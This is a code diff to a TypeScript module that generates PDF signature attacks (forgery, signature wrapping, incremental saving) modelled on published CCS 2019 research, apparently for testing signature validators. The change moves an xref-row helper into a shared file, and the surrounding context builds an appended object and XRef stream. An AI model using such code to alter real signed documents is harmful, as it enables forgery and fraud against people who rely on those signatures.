@@ -1,7 +1,7 @@
 // Universal signature forgery, signature wrapping and incremental saving (Mladenov et al., “1 Trillion Dollar Refund”, CCS 2019),
 // and structures that readers take in two ways. Each works on any signed file.
 import { openTarget, type Target, updated, withEntries, writtenWith } from './attack-target.ts';
-import { bytes, lastStartXref, latin1, stream } from './pdf-maker.ts';
+import { bytes, lastStartXref, latin1, row, stream } from './pdf-maker.ts';
 
 /** What an attacker makes of a signed file; undefined where the file offers no hold. */
 export type Attack = readonly [name: string, make: (target: Target) => Uint8Array | undefined];
@@ -177,15 +177,6 @@ function compressed(target: Target): Uint8Array {
   const containerAt = body.length;
   body += `${container} 0 obj\n${stream(index + packed, `/Type /ObjStm /N 1 /First ${index.length}`)}\nendobj\n`;
   const xrefAt = body.length;
-  const row = (type: number, second: number, third: number) =>
-    String.fromCharCode(
-      type,
-      (second >> 24) & 255,
-      (second >> 16) & 255,
-      (second >> 8) & 255,
-      second & 255,
-      third,
-    );
   const rows = row(2, container, 0) + row(1, contentAt, 0) + row(1, containerAt, 0) + row(1, xrefAt, 0);
   const entries = `/Type /XRef /W [1 4 1] /Index [${target.page.num} 1 ${free} 3] /Size ${xref + 1} /Root ${target.root} 0 R /Prev ${lastStartXref(text)}`;
   return bytes(`${body}${xref} 0 obj\n${stream(rows, entries)}\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`);
